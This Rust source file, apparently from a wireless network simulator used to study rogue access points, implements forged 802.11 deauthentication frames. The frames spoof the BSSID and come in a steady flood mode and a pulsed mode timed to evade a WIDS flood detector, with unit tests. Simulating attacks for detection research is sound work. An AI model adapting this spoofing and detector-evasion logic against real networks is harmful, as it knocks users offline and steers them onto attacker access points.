//! Forged deauthentication.
//!
//! 802.11 (pre-802.11w) management frames are unauthenticated: anyone can
//! transmit `Deauth(addr1 = victim, addr2 = addr3 = BSSID)` and the
//! victim obeys. The paper uses this to steer a chosen client onto the
//! rogue AP: "he could force the client's disassociation from the
//! legitimate AP until the client associates with the Rogue AP."

use rogue_dot11::frame::{Frame, FrameBody};
use rogue_dot11::output::MacOutput;
use rogue_dot11::MacAddr;
use rogue_phy::Bitrate;
use rogue_sim::{SimDuration, SimTime};

use crate::inject::FrameInjector;

/// Reason code "Class 3 frame received from nonassociated STA" — the one
/// period tools sent.
pub const REASON_CLASS3: u16 = 7;

/// Forged-deauth injector: bursts of `burst_len` frames `intra` apart,
/// one burst every `period`, between `start_at` and `stop_at`. A
/// [`steady`](DeauthFlooder::steady) flood sends one frame per period; a
/// [`pulsed`](DeauthFlooder::pulsed) one sizes and spaces its bursts to
/// duck the WIDS flood detector's short window while its long-run rate
/// stays flood-grade, which is what the detector's long horizon exists
/// to catch. The world transmits the frames on the attacker's radio,
/// tuned to the victim BSS's channel.
pub struct DeauthFlooder {
    /// BSSID to impersonate.
    pub bssid: MacAddr,
    /// Victim (None = broadcast deauth, kicking everyone).
    pub target: Option<MacAddr>,
    burst_len: u64,
    intra: SimDuration,
    period: SimDuration,
    start_at: SimTime,
    stop_at: SimTime,
    /// Frames injected.
    pub injected: u64,
}

impl DeauthFlooder {
    /// Flood `target` (or everyone) off `bssid`, every `period`, between
    /// `start_at` and `stop_at`.
    pub fn steady(
        bssid: MacAddr,
        target: Option<MacAddr>,
        start_at: SimTime,
        period: SimDuration,
        stop_at: SimTime,
    ) -> DeauthFlooder {
        DeauthFlooder::pulsed(
            bssid,
            target,
            1,
            SimDuration::ZERO,
            period,
            start_at,
            stop_at,
        )
    }

    /// Bursts of `burst_len` frames `intra` apart, every `burst_period`,
    /// between `start_at` and `stop_at`.
    pub fn pulsed(
        bssid: MacAddr,
        target: Option<MacAddr>,
        burst_len: u64,
        intra: SimDuration,
        burst_period: SimDuration,
        start_at: SimTime,
        stop_at: SimTime,
    ) -> DeauthFlooder {
        assert!(burst_len >= 1);
        DeauthFlooder {
            bssid,
            target,
            burst_len,
            intra,
            period: burst_period,
            start_at,
            stop_at,
            injected: 0,
        }
    }

    /// Build one forged deauth frame (also usable standalone).
    pub fn forge(bssid: MacAddr, victim: MacAddr) -> Frame {
        // addr2/addr3 = BSSID: indistinguishable from the real AP.
        Frame::new(
            victim,
            bssid,
            bssid,
            FrameBody::Deauth {
                reason: REASON_CLASS3,
            },
        )
    }

    /// Transmit instant of frame `i` of the schedule.
    fn schedule(&self, i: u64) -> SimTime {
        let burst = i / self.burst_len;
        let within = i % self.burst_len;
        self.start_at + SimDuration(burst * self.period.0 + within * self.intra.0)
    }
}

impl FrameInjector for DeauthFlooder {
    fn next_wake(&self) -> SimTime {
        let at = self.schedule(self.injected);
        if at < self.stop_at {
            at
        } else {
            SimTime::FOREVER
        }
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        loop {
            let at = self.schedule(self.injected);
            if at > now || at >= self.stop_at {
                break;
            }
            let victim = self.target.unwrap_or(MacAddr::BROADCAST);
            let mut frame = Self::forge(self.bssid, victim);
            frame.seq = (self.injected % 4096) as u16;
            out.push(MacOutput::Tx {
                bytes: frame.encode(),
                bitrate: Bitrate::B1,
            });
            self.injected += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::frame::Frame as F;

    #[test]
    fn forged_frame_is_indistinguishable_from_ap() {
        let bssid = MacAddr::local(1);
        let victim = MacAddr::local(50);
        let forged = DeauthFlooder::forge(bssid, victim).encode();
        let parsed = F::decode(&forged).unwrap();
        assert_eq!(parsed.addr1, victim);
        assert_eq!(parsed.addr2, bssid, "claims to come from the AP");
        assert_eq!(parsed.bssid(), bssid);
        assert!(matches!(
            parsed.body,
            FrameBody::Deauth {
                reason: REASON_CLASS3
            }
        ));
    }

    #[test]
    fn flood_cadence_and_stop() {
        let mut f = DeauthFlooder::steady(
            MacAddr::local(1),
            Some(MacAddr::local(50)),
            SimTime::from_millis(10),
            SimDuration::from_millis(50),
            SimTime::from_millis(200),
        );
        let mut out = Vec::new();
        let mut now = f.next_wake();
        while now != SimTime::FOREVER {
            f.poll(now, &mut out);
            now = f.next_wake();
        }
        // 10, 60, 110, 160 -> 4 frames.
        assert_eq!(f.injected, 4);
        assert_eq!(out.len(), 4);
    }

    #[test]
    fn broadcast_mode() {
        let mut f = DeauthFlooder::steady(
            MacAddr::local(1),
            None,
            SimTime::ZERO,
            SimDuration::from_millis(100),
            SimTime::from_millis(100),
        );
        let mut out = Vec::new();
        f.poll(SimTime::ZERO, &mut out);
        let MacOutput::Tx { bytes, .. } = &out[0] else {
            panic!("expected Tx");
        };
        let parsed = F::decode(bytes).unwrap();
        assert_eq!(parsed.addr1, MacAddr::BROADCAST);
    }
}
